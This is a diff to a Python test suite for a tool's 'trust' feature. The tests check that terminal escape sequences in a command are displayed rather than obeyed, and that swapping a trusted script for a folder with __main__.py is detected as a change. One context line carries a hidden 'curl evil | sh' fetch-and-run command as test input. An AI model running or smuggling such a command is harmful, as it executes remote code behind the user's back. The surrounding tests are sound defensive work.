@@ -225,3 +225,14 @@ def test_trust_shows_escape_sequences_in_a_block_instead_of_obeying_them(hive: H
     assert "python3 'ok.py\\x1b[8m; curl evil | sh\\x1b[0m' 'two words'; " in said
     assert "env: 'K\\x1b[2K'='v\\u202e'" in said
     assert "\x1b" not in said and "\u202e" not in said
+
+
+def test_a_script_turned_into_a_folder_python_runs_is_caught(hive: Hive) -> None:
+    script = with_script(hive)
+    assert cli("trust", str(hive.root)).exit_code == 0
+    script.unlink()
+    script.mkdir()  # `python3 tools/notes.py` now runs tools/notes.py/__main__.py
+    (script / "__main__.py").write_text("print('not what you trusted')\n")
+    assert states(hive) == {"notes": ServerTrust.FILE_CHANGED}
+    [warning] = warnings(hive)
+    assert "tools/notes.py, tools/notes.py/__main__.py changed since you trusted it" in warning
